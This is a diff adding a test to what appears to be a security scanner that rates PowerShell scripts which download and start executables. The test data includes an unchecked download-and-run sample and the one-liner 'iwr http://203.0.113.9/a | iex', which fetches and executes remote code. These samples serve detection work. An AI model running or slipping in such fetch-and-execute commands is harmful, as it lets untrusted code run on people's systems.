@@ -57,3 +57,13 @@ def test_python_download_checked_before_its_write_is_medium_a_check_of_other_dat
     assert grade(signed.replace("KEY.verify(blob, sig)", "KEY.verify(sig, sig)")) == {1: "critical"}
     assert grade("if hashlib.sha256(sig).hexdigest() != 'ab' * 32:\n        raise ValueError('digest')") == {1: "critical"}
 
+
+def test_powershell_downloaded_file_started_after_a_hash_check_is_medium_without_it_critical():
+    text = ("$p = \"$env:TEMP\\setup.exe\"\n"
+            "Invoke-WebRequest -Uri https://example.org/setup.exe -OutFile $p\n"
+            "if ((Get-FileHash $p).Hash -ne $Pinned) { throw 'hash' }\n"
+            "Start-Process $p -Wait\n")
+    assert _by_line("ps-runs-downloaded-code", "tools/get.ps1", text) == {4: "medium"}
+    unchecked = text.replace("if ((Get-FileHash $p).Hash -ne $Pinned) { throw 'hash' }\n", "Write-Host 'ok'\n")
+    assert _by_line("ps-runs-downloaded-code", "tools/get.ps1", unchecked) == {4: "critical"}
+    assert _by_line("ps-runs-downloaded-code", "tools/get.psm1", "iwr http://203.0.113.9/a | iex\n") == {1: "critical"}
